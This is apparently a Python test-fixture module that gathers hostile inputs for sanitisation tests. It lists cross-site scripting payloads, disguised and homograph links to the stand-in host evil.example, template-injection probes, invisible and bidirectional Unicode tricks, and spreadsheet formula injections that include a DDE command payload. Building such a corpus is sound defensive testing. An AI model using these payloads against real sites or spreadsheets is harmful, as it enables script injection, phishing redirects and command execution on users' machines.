"""Hostile words (F60): what browsers, parsers, spreadsheets and readers were fooled by elsewhere."""

from tests.texts.test_hostile import ATTACKS

SCRIPTS = (
    "<script>window.owned=1</script>",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "</title></textarea></script></style><script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<img/src='x'/onerror='window.owned=1'//",
    "<svg/onload=window.owned=1>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.owned=1'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=window.owned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "<details open ontoggle=window.owned=1>x</details>",
    "<input autofocus onfocus=window.owned=1>",
    "<body onload=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data='javascript:window.owned=1'></object><embed src='javascript:window.owned=1'>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>*{background:url(//evil.example)}</style>",
    "<form action='https://evil.example'><button formaction='javascript:window.owned=1'>x</button></form>",
    '" autofocus onfocus="window.owned=1" x="',
    "' onmouseover='window.owned=1' x='",
    '"><script>window.owned=1</script><p a="',
    "x onclick=window.owned=1 style=position:fixed;inset:0",
    "--><script>window.owned=1</script><!--",
    "]]><script>window.owned=1</script>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.owned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
    "＜script＞window.owned=1＜/script＞",
)
LINKS = (
    "javascript:window.owned=1",
    "JaVaScRiPt:window.owned=1",
    "java\tscript:window.owned=1",
    " javascript:window.owned=1",
    "javascript://docs.wto.org/%0Awindow.owned=1",
    "data:text/html,<script>window.owned=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://docs.wto.org.evil.example/",
    "https://docs.wto.org%2eevil.example/",
    "https://dоcs.wto.org/",
    "https://docs.wto.org@evil.example/",
    "https://docs。wto。org.evil.example/",
)
TEMPLATES = (
    "{{ 7*7 }}{% raw %}{{ session.__class__ }}",
    "${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
    "{0.__class__}%(goods)s%s%n",
)
UNSEEN = (
    "\u202e\u2066txt.exe\u2069\u200f",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u2028\u2029\u0085",
    "x" * 400,
    "Ḥ̶̛̖͕ạ̷̑n̵͈̓ " * 20,
    '=HYPERLINK("https://evil.example")',
    "@SUM(1+1)|cmd|' /C calc'!A0",
)

SPOKEN = tuple(one for one in ATTACKS if not any(c == "\x00" or "\ud800" <= c <= "\udfff" for c in one))
"""What the mails are tried with, but for what no database keeps."""

CORPUS = SCRIPTS + TEMPLATES + UNSEEN + SPOKEN

GROUPS = tuple(" ".join(CORPUS[at : at + 4]) for at in range(0, len(CORPUS), 4))
"""The corpus, four words at a time; links are tried alone, each as a link of the notice."""

LIVE = "".join(SCRIPTS[:24])
"""All that would run, one after the other, for a browser to run."""
